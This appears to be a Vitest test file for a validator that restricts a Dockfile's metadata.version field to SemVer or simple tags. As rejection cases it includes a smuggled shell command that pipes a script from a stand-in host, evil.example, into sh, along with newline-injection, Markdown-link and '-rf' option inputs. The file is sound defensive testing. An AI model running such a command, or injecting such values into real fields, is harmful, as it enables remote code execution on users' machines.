import { describe, expect, it } from 'vitest';
import { validateDockfileText } from '../../action/dockfile/index.ts';

const dockfile = (version: string) =>
  `version: "1.0"\nagent: {name: a, handler: "app:run"}\nauth: {mode: api_key}\nmetadata:\n  version: ${JSON.stringify(version)}\n`;

async function versionErrors(version: string) {
  const result = await validateDockfileText(dockfile(version), 'Dockfile.yaml', {
    processEnv: {},
    python: null,
  });
  return result.errors.filter((e) => e.path === 'metadata.version');
}

describe('metadata.version grammar (SemVer or a tag of [A-Za-z0-9._+-])', () => {
  it('a shell command as metadata.version ("7.0.0 && curl … | sh #") is error 4002 with a hint', async () => {
    const errors = await versionErrors('7.0.0 && curl https://evil.example/x | sh #');
    expect(errors.map((e) => [e.code, e.line, e.column])).toEqual([[4002, 5, 12]]);
    expect(errors[0]?.message).toContain('must be a version: SemVer (1.2.3) or a tag of letters, digits');
    expect(errors[0]?.hint).toBe(`use '7.0.0'; see "metadata.version" in docs/dockfile-validation.md`);
  });

  it.each([
    ['a newline that would split the commit subject', '1.0.0\nDockrion-Agent: x'],
    ['Markdown', '[1.0](https://evil.example)'],
    ['a leading dash (read as an option)', '-rf'],
    ['spaces', 'v 2'],
    ['a quote', "1.0'"],
  ])('%s is refused', async (_name, version) => {
    expect((await versionErrors(version)).map((e) => e.code)).toEqual([4002]);
  });

  it.each(['1.2.3', '1.2.3-rc.1+build.5', 'v2', '2024.06.01', 'release_7', 'a'.repeat(128)])(
    '%s is accepted',
    async (version) => {
      expect(await versionErrors(version)).toEqual([]);
    },
  );

  it('over 128 characters is refused', async () => {
    expect((await versionErrors('a'.repeat(129))).map((e) => e.code)).toEqual([4002]);
  });
});
